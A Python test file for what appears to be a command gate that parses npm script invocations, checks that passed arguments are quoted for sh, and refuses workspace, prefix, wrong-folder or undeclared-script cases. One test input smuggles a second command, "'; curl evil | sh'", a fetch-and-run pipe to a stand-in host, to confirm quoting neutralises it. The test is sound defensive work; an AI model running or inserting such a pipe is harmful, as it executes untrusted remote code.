"""runtime.gate.package_scripts on its own: which script `npm ARGS` runs, and what `npm … -- ARGS` makes of them.

tests/gate/test_package_scripts.py judges whole commands through the gate; these call the module's functions.
"""

from __future__ import annotations

import pytest

from runtime.gate.package_scripts import script_call, script_named
from runtime.gate.shell import analyze

ROOT = "/work/tree"
SCRIPTS = {"test": "jest", "lint": "eslint src", "check": "tsc --noEmit && eslint src", "report": "jest > out.txt"}


@pytest.mark.parametrize("args,name", [
    (["test"], "test"), (["t"], "test"), (["tst"], "test"), (["test", "--silent"], "test"),
    (["start"], "start"), (["stop"], "stop"), (["restart"], "restart"),
    (["run", "lint"], "lint"), (["run-script", "lint"], "lint"), (["rum", "lint"], "lint"), (["urn", "lint"], "lint"),
    (["run", "build", "--silent"], "build"),
])
def test_the_script_npm_runs_is_named_by_npms_own_commands(args, name):
    assert script_named(args) == name


@pytest.mark.parametrize("args", [[], ["run"], ["run", "--silent"], ["install"], ["ci"], ["exec", "jest"],
                                  ["--version"], ["lint"]])
def test_commands_that_run_no_script_name_none(args):
    assert script_named(args) is None


def _npm(line: str, cwd: str = ROOT):
    commands = analyze(line, cwd).commands
    assert [c.name for c in commands] == ["npm"], line
    return commands[0]


@pytest.mark.parametrize("line,expected", [
    ("npm test -- --watch=false", "jest --watch=false"),
    ("npm t -- src/date", "jest src/date"),
    ("npm run lint -- --max-warnings 0", "eslint src --max-warnings 0"),
    ("npm run lint --", "eslint src"),
    ("npm test -- 'a b' '; curl evil | sh'", "jest 'a b' '; curl evil | sh'"),
])
def test_the_arguments_are_appended_to_the_script_each_quoted_for_sh(line, expected):
    found = script_call(_npm(line), SCRIPTS, ROOT)
    assert isinstance(found, tuple), found
    own, inner, script_line = found
    assert script_line == expected
    assert [c.name for c in inner.commands] == [expected.split()[0]]


def test_the_npm_command_keeps_only_its_words_before_the_separator():
    cmd = _npm("npm run lint --silent -- --fix")
    own, _, _ = script_call(cmd, SCRIPTS, ROOT)
    assert own.name == "npm" and own.args == ["run", "lint", "--silent"]
    assert (own.assigns, own.cwds, own.via) == (cmd.assigns, cmd.cwds, cmd.via)
    assert cmd.args == ["run", "lint", "--silent", "--", "--fix"]  # the command given is left as it was


def test_each_command_of_a_compound_script_is_analysed_with_the_arguments_on_the_last():
    _, inner, line = script_call(_npm("npm run check -- --fix"), SCRIPTS, ROOT)
    assert line == "tsc --noEmit && eslint src --fix"
    assert [(c.name, c.args) for c in inner.commands] == [("tsc", ["--noEmit"]), ("eslint", ["src", "--fix"])]


def test_a_scripts_redirection_is_in_what_it_makes_and_the_arguments_go_to_its_program():
    _, inner, line = script_call(_npm("npm run report -- -t x"), SCRIPTS, ROOT)
    assert line == "jest > out.txt -t x"
    assert [(w.target, w.cwds) for w in inner.writes] == [("out.txt", (ROOT,))]
    assert [(c.name, c.args) for c in inner.commands] == [("jest", ["-t", "x"])]


@pytest.mark.parametrize("line,why", [
    ("npm -- x", "only `npm test -- ARGS` and `npm run SCRIPT -- ARGS` pass arguments on to a script"),
    ("npm install -- x", "`npm install -- …`: only `npm test -- ARGS`"),
    ("npm run -- x", "`npm run -- …`: only"),
    ("npm test -w app -- x", "runs a script of another package (`-w`)"),
    ("npm test -wapp -- x", "runs a script of another package (`-wapp`)"),
    ("npm test --workspace=app -- x", "(`--workspace=app`)"),
    ("npm test --workspaces -- x", "(`--workspaces`)"),
    ("npm test --ws -- x", "(`--ws`)"),
    ("npm test --prefix /elsewhere -- x", "(`--prefix`)"),
    ("npm test -C /elsewhere -- x", "(`-C`)"),
    ("npm test --include-workspace-root -- x", "(`--include-workspace-root`)"),
    ("npm run build -- x", "passes its arguments to the script `build`, which the worktree's package.json did not "
                           "declare when the policy was compiled (scripts: check, lint, report, test)"),
])
def test_what_cannot_pass_arguments_to_a_known_script_says_why(line, why):
    found = script_call(_npm(line), SCRIPTS, ROOT)
    assert isinstance(found, str) and why in found, found


def test_no_scripts_at_all_are_listed_as_none():
    found = script_call(_npm("npm test -- x"), {}, ROOT)
    assert isinstance(found, str) and "(scripts: none)" in found


@pytest.mark.parametrize("cwd", [f"{ROOT}/src", "/elsewhere"])
def test_a_script_run_from_another_folder_is_refused(cwd):
    found = script_call(_npm("npm test -- x", cwd), SCRIPTS, ROOT)
    assert isinstance(found, str) and "run it from the worktree's top folder" in found


def test_the_top_folder_written_with_a_trailing_slash_is_the_top_folder():
    found = script_call(_npm("npm test -- x", ROOT + "/"), SCRIPTS, ROOT)
    assert isinstance(found, tuple) and found[2] == "jest x"


@pytest.mark.parametrize("script,why", [("jest $(cat flags)", "command substitution"), ("jest 'open", "")])
def test_a_script_the_shell_analysis_refuses_is_refused_naming_the_script_and_its_line(script, why):
    found = script_call(_npm("npm test -- x"), {"test": script}, ROOT)
    assert isinstance(found, str)
    assert f"runs `{script} x` (the script `test` with your arguments), and " in found and why in found
    assert found.endswith("; run the program directly if your rules allow it")
